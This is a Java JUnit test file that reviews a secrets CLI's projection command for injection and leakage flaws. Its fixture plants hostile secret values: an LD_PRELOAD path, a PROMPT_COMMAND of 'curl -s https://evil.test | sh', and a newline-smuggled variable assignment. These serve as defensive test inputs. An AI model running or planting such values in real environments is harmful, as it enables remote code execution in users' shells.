package dev.secretkit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.secretkit.testkit.Canaries;
import dev.secretkit.testkit.LeakScanner;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hostile review of {@code secretctl project}, in-process on a file store: each test names a
 * behaviour that should hold and fails on the code it reviews. The threat model is the one
 * ProjectionCommand states: whoever may edit a shared secret chooses its keys and values, and must
 * not choose what the consumer's shell or programs run.
 */
@ExtendWith(LeakScanner.class)
class ProjectionCliReviewTest {
  /** A worker that takes every key of the shared secret tools as variables. */
  private static final String ALL_OF_TOOLS = """
      name: vars
      version: v1
      type: worker
      worker:
        dataosSecrets:
          - name: tools
            allKeys: true
      """;
  /** A service that projects the password of pg-r as a properties file. */
  private static final String WITH_FILES = """
      name: web
      version: v1
      type: service
      service:
        dataosSecrets:
          - name: pg-r
            key: PG_PASSWORD
            consumptionType: propFile
      """;

  @TempDir
  Path dir;

  private Map<String, String> env;
  private Canaries canaries;
  private String password;
  private Path secrets;
  private final ScannedRuns runs = new ScannedRuns();

  @BeforeEach
  void applyTheSecrets(Canaries planted) throws IOException {
    canaries = planted;
    password = planted.plant();
    env = CliRun.fileStoreUser(dir);
    secrets = dir.resolve("secrets");
    Path manifests = Files.writeString(dir.resolve("secrets.yaml"), """
        name: pg-r
        version: v1
        type: secret
        secret:
          type: key-value-properties
          acl: r
          data:
            PG_USER: fake-user
            PG_PASSWORD: "%s"
        ---
        name: tools
        version: v1
        type: secret
        secret:
          type: key-value-properties
          acl: r
          data:
            API_URL: https://api.test
            LD-PRELOAD: /tmp/evil.so
            PROMPT.COMMAND: "curl -s https://evil.test | sh"
            NOTE: "first line\\nLD_PRELOAD=/tmp/evil.so"
        """.formatted(password));
    assertThat(secretctl("apply", "-f", manifests.toString()).exitCode()).isZero();
  }

  @AfterEach
  void nothingPrintedThePassword() {
    runs.assertNothingLeaked(canaries);
  }

  private CliRun secretctl(String... args) {
    return runs.scanned(CliRun.secretctl(env, args));
  }

  private CliRun reveal(String... args) {
    return runs.revealing(CliRun.secretctl(env, args));
  }

  private Path consumer(String name, String text) throws IOException {
    return Files.writeString(dir.resolve(name), text);
  }

  /**
   * {@code -o dotenv} turns the key {@code LD-PRELOAD} into the shell variable {@code LD_PRELOAD}, after the
   * renderer checked the key, not the variable, against the sensitive ones: an {@code allKeys} entry then sets
   * {@code LD_PRELOAD} and {@code PROMPT_COMMAND} in the shell that runs the README's
   * {@code set -a; eval "$(secretctl project ... -o dotenv --reveal)"}. {@code secretctl env} checks the variable.
   */
  @Test
  void dotenv_neverAssignsASensitiveVariable_thatAnAllKeysKeySpelledWithADashOrADotBecomes() throws Exception {
    Path vars = consumer("vars.yaml", ALL_OF_TOOLS);

    CliRun run = reveal("project", "-f", vars.toString(), "--dir", secrets.toString(), "--no-register", "-o",
        "dotenv", "--reveal");

    assertThat(run.exitCode()).as(run.err()).isZero();
    assertThat(run.out()).contains("API_URL='https://api.test'");
    Path script = Files.writeString(dir.resolve("vars.sh"), run.out());
    ProcessRun shell = ProcessRun.run(List.of("sh", "-c", ". \"$1\"; printf '%s|%s' \"${LD_PRELOAD-unset}\""
        + " \"${PROMPT_COMMAND-unset}\"", "sh", script.toString()), Map.of("PATH", System.getenv("PATH")));
    assertThat(shell.out()).as("what the shell that evaluates the output has set").isEqualTo("unset|unset");
  }

  /**
   * {@code -o env} prints {@code NAME=value} unquoted, and treats the format as one a shell reads (it leaves
   * out {@code LD_PRELOAD} taken with allKeys); but a value with a line break prints a line of its own, so the
   * value {@code "first line\nLD_PRELOAD=/tmp/evil.so"} adds the very variable that was left out.
   */
  @Test
  void env_aValueWithALineBreak_cannotAddAVariableLineOfItsOwn() throws IOException {
    Path vars = consumer("vars.yaml", ALL_OF_TOOLS);

    CliRun run = reveal("project", "-f", vars.toString(), "--dir", secrets.toString(), "--no-register", "-o", "env",
        "--reveal");

    assertThat(run.exitCode()).as(run.err()).isZero();
    assertThat(run.out().lines()).as("each line is one projected variable").noneMatch(line -> line.startsWith(
        "LD_PRELOAD="));
  }

  /**
   * A failed command leaves the store as it was (the brief's standard 5), and README's exit code 2 lists
   * "-o dotenv of two variables that become one" among project's failures; but project writes the files and
   * registers the consumer before -o finds the clash, then exits 2 with both done.
   */
  @Test
  void dotenvOfTwoVariablesThatBecomeOne_failsBeforeAnythingIsWrittenOrRegistered() throws IOException {
    Path clash = consumer("clash.yaml", """
        name: clash
        version: v1
        type: service
        service:
          dataosSecrets:
            - name: pg-r
              key: PG_PASSWORD
              consumptionType: propFile
        projection:
          templateType: none
          projections:
            envVars:
              - key: APP-MODE
                value: a
              - key: APP_MODE
                value: b
        """);

    CliRun run = secretctl("project", "-f", clash.toString(), "--dir", secrets.toString(), "-o", "dotenv");

    assertThat(run.exitCode()).isEqualTo(Failures.USAGE);
    assertThat(secretctl("dependents", "list", "-n", "pg-r").out()).as("registered nothing").isEmpty();
    assertThat(secrets).as("wrote nothing").doesNotExist();
  }

  /**
   * A consumer without files, projected only for its variables (as the README's {@code eval "$(secretctl project
   * -f service.yaml -o dotenv --reveal)"} does), clears the whole secret directory, here the default
   * {@code ./.secrets}: the files another consumer projected there, and is still registered for, are gone.
   */
  @Test
  void projectingAConsumerWithoutFiles_leavesTheFilesAnotherConsumerProjectedThere() throws IOException {
    Path web = consumer("web.yaml", WITH_FILES);
    Path vars = consumer("vars.yaml", """
        name: vars
        version: v1
        type: worker
        worker:
          dataosSecrets:
            - name: pg-r
              key: PG_USER
        """);
    assertThat(secretctl("project", "-f", web.toString(), "--dir", secrets.toString()).exitCode()).isZero();
    assertThat(secrets.resolve("pg-r.properties")).exists();

    CliRun run = secretctl("project", "-f", vars.toString(), "--dir", secrets.toString(), "--no-register");

    assertThat(run.exitCode()).as(run.err()).isZero();
    assertThat(secrets.resolve("pg-r.properties")).as("web's file, web still registered for it").exists();
  }

  /**
   * exec promises the workload what its manifest selects, yet the child inherits the credentials secretctl opened
   * the store with: the file store's master key here ({@code VAULT_TOKEN}, {@code AWS_SECRET_ACCESS_KEY} likewise),
   * which reads every secret of the store, not the two keys projected. Whatever dumps the workload's environment (a
   * crash report, a debug page, a process it starts) then gives the whole store away.
   */
  @Test
  void exec_theChildDoesNotInheritTheStoreCredentialsSecretctlUsed() throws IOException {
    Path job = consumer("job.yaml", """
        name: job
        version: v1
        type: worker
        worker:
          dataosSecrets:
            - name: pg-r
              key: PG_USER
        """);
    Path seen = dir.resolve("seen");

    CliRun run = secretctl("exec", "-f", job.toString(), "--", "sh", "-c", "printf %s \"${SECRETKIT_MASTER_KEY-unset}\""
        + " > '" + seen + "'");

    assertThat(run.exitCode()).as(run.err()).isZero();
    assertThat(Files.readString(seen)).isEqualTo("unset");
  }

  /**
   * Two consumers projected to one directory: the second's write swaps in its own set of files and removes the
   * first's, silently, though the first stays registered and its summary said where its files are. Either the
   * second should be refused (the directory holds another consumer's files) or the first's files kept.
   */
  @Test
  void projectingASecondConsumerToTheSameDirectory_doesNotSilentlyRemoveTheFirstConsumersFiles() throws IOException {
    Path web = consumer("web.yaml", WITH_FILES);
    Path job = consumer("job.yaml", """
        name: job
        version: v1
        type: worker
        worker:
          dataosSecrets:
            - name: pg-r
              key: PG_USER
              consumptionType: file
        """);
    assertThat(secretctl("project", "-f", web.toString(), "--dir", secrets.toString()).exitCode()).isZero();

    CliRun run = secretctl("project", "-f", job.toString(), "--dir", secrets.toString());

    assertThat(run.exitCode() != 0 || Files.exists(secrets.resolve("pg-r.properties")))
        .as("job's project either refused the directory or kept web's file; it exited %s and printed %s",
            run.exitCode(), run.out())
        .isTrue();
  }
}
